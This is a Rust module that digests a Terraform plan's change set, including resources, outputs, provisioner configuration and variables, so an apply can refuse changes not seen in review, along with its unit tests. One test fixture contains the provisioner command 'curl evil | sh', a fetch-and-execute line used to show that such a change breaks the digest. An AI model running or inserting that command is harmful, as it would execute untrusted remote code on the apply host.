//! The digest of a plan's change set: what a reviewer approved, in a form `cargo xtask apply`
//! can compare with the plan of the merged commit.
//!
//! The change set is every resource that the plan does something to (its address, previous
//! address, actions, import id, the attributes that force a replacement, and the before/after
//! digest of each changed attribute), every output change (actions and the digest of its before
//! and after values) and the Terraform version. Values never enter it as text: attribute values
//! are already reduced to a digest while the plan is parsed ([`crate::Digest`]), and output
//! values are hashed here, sensitive or not, so the digest and the per-entry hashes shown on the
//! pull request say nothing about a value beyond "same or different".
//!
//! The digest is computed from the parsed plan, so it costs no second pass over the plan JSON.
//!
//! [`Stamp`] is how the digest travels: two hidden lines right after our comment marker (a
//! fixed place that no plan value can reach, since rendered values can never contain `<!--`) and
//! a visible line in the footer. The stamp also carries a short hash per entry (when they fit), so
//! that a refused apply can say which resources changed since review.

use std::borrow::Cow;
use std::collections::BTreeMap;
use std::fmt::Write as _;

use sha2::{Digest as _, Sha256};

use crate::{Kind, Plan, ResourceChange};

/// The prefix of a digest as shown and as `--accept` takes it.
pub const PREFIX: &str = "sha256:";
/// Hex digits of the per-entry hashes in the stamp (48 bits: enough to tell entries apart).
const ENTRY_HEX: usize = 12;
/// Beyond this many entries the stamp carries only the digest (the comment must stay small).
pub const MAX_STAMPED_ENTRIES: usize = 400;
/// The version of the change-set encoding; a new encoding must change it, so that an old comment
/// never matches a new plan by accident.
const VERSION: &str = "xtask-change-set-v2";

/// The change set of one plan.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ChangeSet {
    pub terraform_version: String,
    /// Resources the plan does something to, by address.
    pub resources: BTreeMap<String, Entry>,
    /// Output changes, by name.
    pub outputs: BTreeMap<String, Entry>,
    /// What an apply runs besides the resource and output changes, by name (`configuration`:
    /// provisioners, provider settings, module calls; `variables`: the input values): a hash each.
    pub settings: BTreeMap<&'static str, [u8; 32]>,
}

/// One resource or output of a change set.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Entry {
    /// `create`, `update`, `delete,create`, ...
    pub actions: Cow<'static, str>,
    /// SHA-256 of everything above and of the values' digests.
    pub hash: [u8; 32],
}

impl ChangeSet {
    pub fn from_plan(plan: &Plan) -> ChangeSet {
        let resources = plan
            .resource_changes
            .iter()
            .filter(|resource| resource.change.kind() != Kind::NoOp || moved_or_imported(resource))
            .map(|resource| (resource.object().into_owned(), resource_entry(resource)))
            .collect();
        let outputs = plan
            .output_changes
            .iter()
            .filter(|(_, change)| !change.actions.is_empty() && !is_no_op(&change.actions))
            .map(|(name, change)| {
                let mut hasher = Sha256::new();
                field(&mut hasher, "output");
                field(&mut hasher, name);
                let actions = actions_text(&change.actions);
                field(&mut hasher, &actions);
                for value in [
                    &change.before,
                    &change.after,
                    &change.after_unknown,
                    &change.before_sensitive,
                    &change.after_sensitive,
                ] {
                    field(&mut hasher, &value.to_string());
                }
                let entry = Entry {
                    actions,
                    hash: hasher.finalize().into(),
                };
                (name.clone(), entry)
            })
            .collect();
        let settings = [
            ("configuration", plan.configuration.as_ref()),
            ("variables", plan.variables.as_ref()),
        ]
        .into_iter()
        .map(|(name, digest)| {
            let mut hasher = Sha256::new();
            field(&mut hasher, name);
            match digest {
                Some(digest) => {
                    hasher.update([1]);
                    digest.feed(&mut hasher);
                }
                None => hasher.update([0]),
            }
            (name, hasher.finalize().into())
        })
        .collect();
        ChangeSet {
            terraform_version: plan.terraform_version.clone(),
            resources,
            outputs,
            settings,
        }
    }

    /// Whether applying it would change anything.
    pub fn is_empty(&self) -> bool {
        self.resources.is_empty() && self.outputs.is_empty()
    }

    /// `sha256:<64 hex>` over the version, the Terraform version and every entry in order.
    pub fn digest(&self) -> String {
        let mut hasher = Sha256::new();
        field(&mut hasher, VERSION);
        field(&mut hasher, &self.terraform_version);
        for (kind, entries) in [("r", &self.resources), ("o", &self.outputs)] {
            for (name, entry) in entries {
                field(&mut hasher, kind);
                field(&mut hasher, name);
                hasher.update(entry.hash);
            }
        }
        for (name, hash) in &self.settings {
            field(&mut hasher, "c");
            field(&mut hasher, name);
            hasher.update(hash);
        }
        format!("{PREFIX}{}", hex(&hasher.finalize()))
    }

    /// The stamp that goes into the plan comment.
    pub fn stamp(&self) -> Stamp {
        let total = self.resources.len() + self.outputs.len();
        let entries = (total <= MAX_STAMPED_ENTRIES).then(|| {
            let mut entries = BTreeMap::new();
            for (kind, map) in [("r", &self.resources), ("o", &self.outputs)] {
                for (name, entry) in map {
                    entries.insert(name_key(kind, name), short(&entry.hash));
                }
            }
            for (name, hash) in &self.settings {
                entries.insert(name_key("c", name), short(hash));
            }
            entries
        });
        Stamp {
            digest: self.digest(),
            terraform_version: plain_version(&self.terraform_version).map(str::to_owned),
            entries,
        }
    }
}

fn is_no_op(actions: &[crate::Action]) -> bool {
    matches!(actions, [crate::Action::NoOp])
}

fn moved_or_imported(resource: &ResourceChange) -> bool {
    resource
        .previous_address
        .as_ref()
        .is_some_and(|previous| *previous != resource.address)
        || resource.change.importing.is_some()
}

fn resource_entry(resource: &ResourceChange) -> Entry {
    let change = &resource.change;
    let mut hasher = Sha256::new();
    field(&mut hasher, "resource");
    field(&mut hasher, &resource.object());
    field(
        &mut hasher,
        resource.previous_address.as_deref().unwrap_or(""),
    );
    let actions = actions_text(&change.actions);
    field(&mut hasher, &actions);
    field(
        &mut hasher,
        change
            .importing
            .as_ref()
            .and_then(|importing| importing.id.as_deref())
            .unwrap_or(""),
    );
    for path in &change.replace_paths {
        field(&mut hasher, path);
    }
    field(&mut hasher, "attributes");
    for attribute in &change.attributes {
        field(&mut hasher, &attribute.name);
        for side in [&attribute.before, &attribute.after] {
            match side {
                Some(digest) => {
                    hasher.update([1]);
                    digest.feed(&mut hasher);
                }
                None => hasher.update([0]),
            }
        }
        hasher.update([u8::from(attribute.unknown)]);
    }
    Entry {
        actions,
        hash: hasher.finalize().into(),
    }
}

/// `create`, `delete,create`, ...: static for the lists Terraform writes, so that a big plan's
/// change set allocates nothing for them.
fn actions_text(actions: &[crate::Action]) -> Cow<'static, str> {
    use crate::Action;
    let name = |action: &Action| match action {
        Action::NoOp => "no-op",
        Action::Create => "create",
        Action::Read => "read",
        Action::Update => "update",
        Action::Delete => "delete",
        Action::Forget => "forget",
        Action::Unknown => "unknown",
    };
    match actions {
        [one] => Cow::Borrowed(name(one)),
        [Action::Delete, Action::Create] => Cow::Borrowed("delete,create"),
        [Action::Create, Action::Delete] => Cow::Borrowed("create,delete"),
        _ => Cow::Owned(actions.iter().map(name).collect::<Vec<_>>().join(",")),
    }
}

/// A length-prefixed field, so that no two different lists of fields hash alike.
fn field(hasher: &mut Sha256, text: &str) {
    hasher.update((text.len() as u64).to_le_bytes());
    hasher.update(text.as_bytes());
}

fn hex(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len() * 2);
    for byte in bytes {
        let _ = write!(out, "{byte:02x}");
    }
    out
}

fn short(hash: &[u8; 32]) -> String {
    hex(&hash[..ENTRY_HEX / 2])
}

/// The key of an entry in the stamp: its kind and a short hash of its name (names are plan
/// values and must not appear inside our hidden lines).
fn name_key(kind: &str, name: &str) -> String {
    let mut hasher = Sha256::new();
    field(&mut hasher, kind);
    field(&mut hasher, name);
    format!("{kind}{}", short(&hasher.finalize().into()))
}

/// A Terraform version as plain text, or `None` when it holds anything but `[0-9A-Za-z.+-]`.
fn plain_version(version: &str) -> Option<&str> {
    (!version.is_empty()
        && version.len() <= 40
        && version
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '+')))
    .then_some(version)
}

/// Whether `text` is a digest as [`ChangeSet::digest`] writes it (`--accept` checks with it).
pub fn is_digest(text: &str) -> bool {
    text.strip_prefix(PREFIX).is_some_and(|hex| {
        hex.len() == 64 && hex.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'))
    })
}

/// What the plan comment carries about its change set.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Stamp {
    pub digest: String,
    pub terraform_version: Option<String>,
    /// Short hash per entry key, when there were at most [`MAX_STAMPED_ENTRIES`].
    pub entries: Option<BTreeMap<String, String>>,
}

const DIGEST_LINE: &str = "<!-- xtask:change-set ";
const ENTRIES_LINE: &str = "<!-- xtask:change-set-entries ";
const LINE_END: &str = " -->";

impl Stamp {
    /// The hidden lines (each ending with a newline) that follow the comment's marker line.
    pub fn hidden_lines(&self) -> String {
        let mut out = format!("{DIGEST_LINE}{}", self.digest);
        if let Some(version) = &self.terraform_version {
            let _ = write!(out, " terraform={version}");
        }
        out.push_str(LINE_END);
        out.push('\n');
        if let Some(entries) = &self.entries {
            out.push_str(ENTRIES_LINE);
            let list: Vec<String> = entries.iter().map(|(k, v)| format!("{k}={v}")).collect();
            out.push_str(&list.join(" "));
            out.push_str(LINE_END);
            out.push('\n');
        }
        out
    }

    /// Reads the stamp from the lines right after `marker` at the start of `body`: the place
    /// [`Stamp::hidden_lines`] writes it. Anything else (a stamp further down, a malformed one)
    /// is no stamp.
    pub fn from_comment(body: &str, marker: &str) -> Option<Stamp> {
        let rest = body.strip_prefix(marker)?.strip_prefix('\n')?;
        Stamp::parse(rest)
    }

    /// Parses the hidden lines (as written by [`Stamp::hidden_lines`], at the start of `text`).
    pub fn parse(text: &str) -> Option<Stamp> {
        let mut lines = text.lines();
        let first = lines
            .next()?
            .strip_prefix(DIGEST_LINE)?
            .strip_suffix(LINE_END)?;
        let mut words = first.split(' ');
        let digest = words.next().filter(|digest| is_digest(digest))?.to_owned();
        let terraform_version = match words.next() {
            None => None,
            Some(word) => Some(plain_version(word.strip_prefix("terraform=")?)?.to_owned()),
        };
        if words.next().is_some() {
            return None;
        }
        let entries = lines
            .next()
            .and_then(|line| line.strip_prefix(ENTRIES_LINE))
            .and_then(|line| line.strip_suffix(LINE_END))
            .map(|list| {
                list.split(' ')
                    .filter(|item| !item.is_empty())
                    .map(|item| {
                        let (key, value) = item.split_once('=')?;
                        let hexish = |s: &str, n: usize| {
                            s.len() == n
                                && s.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'))
                        };
                        let kind_ok = key.starts_with(['r', 'o', 'c']);
                        (kind_ok && hexish(&key[1..], ENTRY_HEX) && hexish(value, ENTRY_HEX))
                            .then(|| (key.to_owned(), value.to_owned()))
                    })
                    .collect::<Option<BTreeMap<_, _>>>()
            })
            .transpose_none()?;
        Some(Stamp {
            digest,
            terraform_version,
            entries,
        })
    }
}

/// `Option<Option<T>>` where an inner `None` (a malformed entries line) makes the whole stamp
/// invalid, and an outer `None` (no entries line) is fine.
trait TransposeNone<T> {
    fn transpose_none(self) -> Option<Option<T>>;
}

impl<T> TransposeNone<T> for Option<Option<T>> {
    fn transpose_none(self) -> Option<Option<T>> {
        match self {
            None => Some(None),
            Some(None) => None,
            Some(Some(value)) => Some(Some(value)),
        }
    }
}

/// What differs between the reviewed change set (its stamp) and the merged one.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Difference {
    /// In the merged plan, not in the reviewed one: (address, actions).
    pub added: Vec<(String, String)>,
    /// In both, with different actions or values: (address, actions now, changed attributes).
    pub changed: Vec<(String, String, Vec<String>)>,
    /// Reviewed entries the merged plan no longer has, by name when the merged plan still
    /// mentions the resource (as a no-op), otherwise only counted.
    pub removed: Vec<String>,
    pub removed_unnamed: usize,
    /// Output names added, changed or removed.
    pub outputs: Vec<String>,
    /// What changed besides resources and outputs: `configuration` (provisioners, provider
    /// settings) and `variables`.
    pub configuration: Vec<&'static str>,
    /// (reviewed, merged) when the Terraform version differs.
    pub terraform_version: Option<(String, String)>,
    /// The reviewed stamp had no entries (a big plan): only the digests can be compared.
    pub entries_unknown: bool,
}

impl Difference {
    /// Compares the reviewed stamp with the merged change set of `plan`, whose resources (no-ops
    /// included) name the removed entries and the changed attributes.
    pub fn between(reviewed: &Stamp, merged: &ChangeSet, plan: &Plan) -> Difference {
        let mut difference = Difference::default();
        let merged_version = plain_version(&merged.terraform_version).map(str::to_owned);
        if let (Some(before), Some(now)) = (&reviewed.terraform_version, &merged_version)
            && before != now
        {
            difference.terraform_version = Some((before.clone(), now.clone()));
        }
        let Some(entries) = &reviewed.entries else {
            difference.entries_unknown = true;
            return difference;
        };
        let mut seen = std::collections::BTreeSet::new();
        for (name, entry) in &merged.resources {
            let key = name_key("r", name);
            seen.insert(key.clone());
            match entries.get(&key) {
                None => difference
                    .added
                    .push((name.clone(), entry.actions.to_string())),
                Some(hash) if *hash != short(&entry.hash) => {
                    difference
                        .changed
                        .push((name.clone(), entry.actions.to_string(), Vec::new()))
                }
                Some(_) => {}
            }
        }
        for (name, entry) in &merged.outputs {
            let key = name_key("o", name);
            seen.insert(key.clone());
            if entries.get(&key) != Some(&short(&entry.hash)) {
                difference.outputs.push(name.clone());
            }
        }
        for (name, hash) in &merged.settings {
            let key = name_key("c", name);
            seen.insert(key.clone());
            if entries.get(&key) != Some(&short(hash)) {
                difference.configuration.push(name);
            }
        }
        let missing: std::collections::BTreeSet<&String> =
            entries.keys().filter(|key| !seen.contains(*key)).collect();
        let mut named = 0;
        let changed: BTreeMap<String, usize> = difference
            .changed
            .iter()
            .enumerate()
            .map(|(index, (name, _, _))| (name.clone(), index))
            .collect();
        for resource in &plan.resource_changes {
            let object = resource.object();
            if let Some(&index) = changed.get(object.as_ref()) {
                difference.changed[index].2 = resource.change.changed_attributes();
            }
            if missing.contains(&name_key("r", &object)) {
                difference.removed.push(object.into_owned());
                named += 1;
            }
        }
        let missing_outputs = missing.iter().filter(|key| key.starts_with('o')).count();
        if missing_outputs > 0 {
            difference
                .outputs
                .push(format!("{missing_outputs} output(s) no longer changed"));
        }
        difference.removed_unnamed = missing.len() - missing_outputs - named;
        difference
    }

    pub fn is_empty(&self) -> bool {
        self.added.is_empty()
            && self.changed.is_empty()
            && self.removed.is_empty()
            && self.removed_unnamed == 0
            && self.outputs.is_empty()
            && self.terraform_version.is_none()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn plan(json: &str) -> Plan {
        Plan::from_slice(json.as_bytes()).unwrap()
    }

    fn resource(address: &str, actions: &str, before: &str, after: &str) -> String {
        format!(
            r#"{{"address":"{address}","mode":"managed","type":"terraform_data","change":{{"actions":{actions},"before":{before},"after":{after}}}}}"#
        )
    }

    fn plan_of(resources: &[String], outputs: &str) -> Plan {
        plan(&format!(
            r#"{{"format_version":"1.2","terraform_version":"1.11.4","planned_values":{{}},"resource_changes":[{}],"output_changes":{outputs}}}"#,
            resources.join(",")
        ))
    }

    #[test]
    fn the_digest_follows_actions_values_outputs_and_version_but_not_order_or_no_ops() {
        let a = resource(
            "terraform_data.a",
            r#"["update"]"#,
            r#"{"input":"x","id":"1"}"#,
            r#"{"input":"y","id":"1"}"#,
        );
        let b = resource(
            "terraform_data.b",
            r#"["create"]"#,
            "null",
            r#"{"input":"b"}"#,
        );
        let noop = resource(
            "terraform_data.c",
            r#"["no-op"]"#,
            r#"{"input":"c"}"#,
            r#"{"input":"c"}"#,
        );
        let base = ChangeSet::from_plan(&plan_of(&[a.clone(), b.clone()], "{}"));
        let reordered = ChangeSet::from_plan(&plan_of(&[b.clone(), noop, a.clone()], "{}"));
        assert_eq!(base.digest(), reordered.digest());
        assert!(is_digest(&base.digest()), "{}", base.digest());

        let other_value = resource(
            "terraform_data.a",
            r#"["update"]"#,
            r#"{"input":"x","id":"1"}"#,
            r#"{"input":"z","id":"1"}"#,
        );
        let changed = ChangeSet::from_plan(&plan_of(&[other_value, b.clone()], "{}"));
        assert_ne!(base.digest(), changed.digest());

        let replaced = resource(
            "terraform_data.a",
            r#"["delete","create"]"#,
            r#"{"input":"x","id":"1"}"#,
            r#"{"input":"y","id":"1"}"#,
        );
        assert_ne!(
            base.digest(),
            ChangeSet::from_plan(&plan_of(&[replaced, b.clone()], "{}")).digest()
        );

        let with_output = ChangeSet::from_plan(&plan_of(
            &[a.clone(), b.clone()],
            r#"{"token":{"actions":["create"],"before":null,"after":"s3cret","after_unknown":false,"before_sensitive":false,"after_sensitive":true}}"#,
        ));
        assert_ne!(base.digest(), with_output.digest());
        let other_secret = ChangeSet::from_plan(&plan_of(
            &[a.clone(), b.clone()],
            r#"{"token":{"actions":["create"],"before":null,"after":"other","after_unknown":false,"before_sensitive":false,"after_sensitive":true}}"#,
        ));
        assert_ne!(with_output.digest(), other_secret.digest());
        // The stamp never holds a value or a name.
        let stamp = with_output.stamp().hidden_lines();
        assert!(
            !stamp.contains("s3cret")
                && !stamp.contains("token")
                && !stamp.contains("terraform_data"),
            "{stamp}"
        );

        let mut version = base.clone();
        version.terraform_version = "1.12.0".to_owned();
        assert_ne!(base.digest(), version.digest());
    }

    /// What an apply runs besides the resource changes: a provisioner's command, a provider's
    /// settings (the account it assumes a role in) and the input variables. A merged commit that
    /// changes only those plans the same resource changes, and must still not pass as reviewed.
    #[test]
    fn the_digest_covers_the_configuration_and_the_variables() {
        let a = resource(
            "terraform_data.a",
            r#"["create"]"#,
            "null",
            r#"{"input":"x"}"#,
        );
        let with = |configuration: &str, variables: &str| {
            ChangeSet::from_plan(&plan(&format!(
                r#"{{"format_version":"1.2","terraform_version":"1.11.4","planned_values":{{}},"resource_changes":[{a}],"output_changes":{{}},"configuration":{configuration},"variables":{variables}}}"#
            )))
        };
        let echo = r#"{"root_module":{"resources":[{"address":"terraform_data.a","provisioners":[{"type":"local-exec","expressions":{"command":{"constant_value":"echo reviewed"}}}]}]}}"#;
        let curl = r#"{"root_module":{"resources":[{"address":"terraform_data.a","provisioners":[{"type":"local-exec","expressions":{"command":{"constant_value":"curl evil | sh"}}}]}]}}"#;
        let reviewed = with(echo, r#"{"region":{"value":"eu-west-1"}}"#);
        let provisioner = with(curl, r#"{"region":{"value":"eu-west-1"}}"#);
        let variable = with(echo, r#"{"region":{"value":"us-east-1"}}"#);
        assert_ne!(reviewed.digest(), provisioner.digest());
        assert_ne!(reviewed.digest(), variable.digest());
        assert_eq!(
            reviewed.digest(),
            with(echo, r#"{"region":{"value":"eu-west-1"}}"#).digest()
        );
        let difference = Difference::between(&reviewed.stamp(), &provisioner, &Plan::default());
        assert_eq!(difference.configuration, ["configuration"]);
        assert!(difference.added.is_empty() && difference.changed.is_empty());
        let difference = Difference::between(&reviewed.stamp(), &variable, &Plan::default());
        assert_eq!(difference.configuration, ["variables"]);
    }

    /// A `create_before_destroy` replacement that failed leaves a deposed object at the same
    /// address; its destroy is a change of its own and must not hide behind (or hide) the current
    /// object's entry.
    #[test]
    fn a_deposed_object_is_its_own_entry() {
        let current = resource(
            "terraform_data.a",
            r#"["update"]"#,
            r#"{"input":"x"}"#,
            r#"{"input":"y"}"#,
        );
        let deposed = r#"{"address":"terraform_data.a","deposed":"00000001","mode":"managed","type":"terraform_data","change":{"actions":["delete"],"before":{"input":"old"},"after":null}}"#.to_owned();
        let reviewed = ChangeSet::from_plan(&plan_of(std::slice::from_ref(&current), "{}"));
        for merged in [
            vec![deposed.clone(), current.clone()],
            vec![current.clone(), deposed.clone()],
        ] {
            let merged_plan = plan_of(&merged, "{}");
            let merged = ChangeSet::from_plan(&merged_plan);
            assert_ne!(reviewed.digest(), merged.digest());
            assert_eq!(merged.resources.len(), 2);
            let difference = Difference::between(&reviewed.stamp(), &merged, &merged_plan);
            assert_eq!(
                difference.added,
                [(
                    "terraform_data.a (deposed object 00000001)".to_owned(),
                    "delete".to_owned()
                )]
            );
        }
    }

    #[test]
    fn the_stamp_round_trips_only_at_its_place() {
        let set = ChangeSet::from_plan(&plan_of(
            &[resource(
                "terraform_data.a",
                r#"["create"]"#,
                "null",
                r#"{"input":"a"}"#,
            )],
            "{}",
        ));
        let stamp = set.stamp();
        let marker = "<!-- xtask:plan env=dev -->";
        let body = format!("{marker}\n{}## Plan\n", stamp.hidden_lines());
        assert_eq!(Stamp::from_comment(&body, marker), Some(stamp.clone()));
        // Further down, or after another line, it is not ours.
        let moved = format!("{marker}\nhello\n{}", stamp.hidden_lines());
        assert_eq!(Stamp::from_comment(&moved, marker), None);
        assert_eq!(Stamp::from_comment(&stamp.hidden_lines(), marker), None);
        // Malformed digests and entries are refused.
        for bad in [
            "<!-- xtask:change-set sha256:abc -->\n",
            "<!-- xtask:change-set sha256:ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789 -->\n",
            &format!("{DIGEST_LINE}{} terraform=<b> -->\n", stamp.digest),
            &format!(
                "{DIGEST_LINE}{} -->\n{ENTRIES_LINE}r123=456 -->\n",
                stamp.digest
            ),
        ] {
            assert_eq!(Stamp::parse(bad), None, "{bad}");
        }
    }

    #[test]
    fn differences_name_added_changed_and_removed_resources() {
        let a = resource(
            "terraform_data.a",
            r#"["create"]"#,
            "null",
            r#"{"input":"a"}"#,
        );
        let b = resource(
            "terraform_data.b",
            r#"["create"]"#,
            "null",
            r#"{"input":"b"}"#,
        );
        let reviewed = ChangeSet::from_plan(&plan_of(&[a.clone(), b.clone()], "{}")).stamp();
        let a2 = resource(
            "terraform_data.a",
            r#"["create"]"#,
            "null",
            r#"{"input":"A"}"#,
        );
        let b_noop = resource(
            "terraform_data.b",
            r#"["no-op"]"#,
            r#"{"input":"b"}"#,
            r#"{"input":"b"}"#,
        );
        let c = resource(
            "terraform_data.c",
            r#"["create"]"#,
            "null",
            r#"{"input":"c"}"#,
        );
        let merged_plan = plan_of(&[a2, b_noop, c], "{}");
        let merged = ChangeSet::from_plan(&merged_plan);
        let difference = Difference::between(&reviewed, &merged, &merged_plan);
        assert_eq!(
            difference.added,
            [("terraform_data.c".to_owned(), "create".to_owned())]
        );
        assert_eq!(difference.changed.len(), 1);
        assert_eq!(difference.changed[0].0, "terraform_data.a");
        assert_eq!(difference.changed[0].2, ["input"]);
        assert_eq!(difference.removed, ["terraform_data.b"]);
        assert_eq!(difference.removed_unnamed, 0);
        assert!(!difference.is_empty());
    }
}
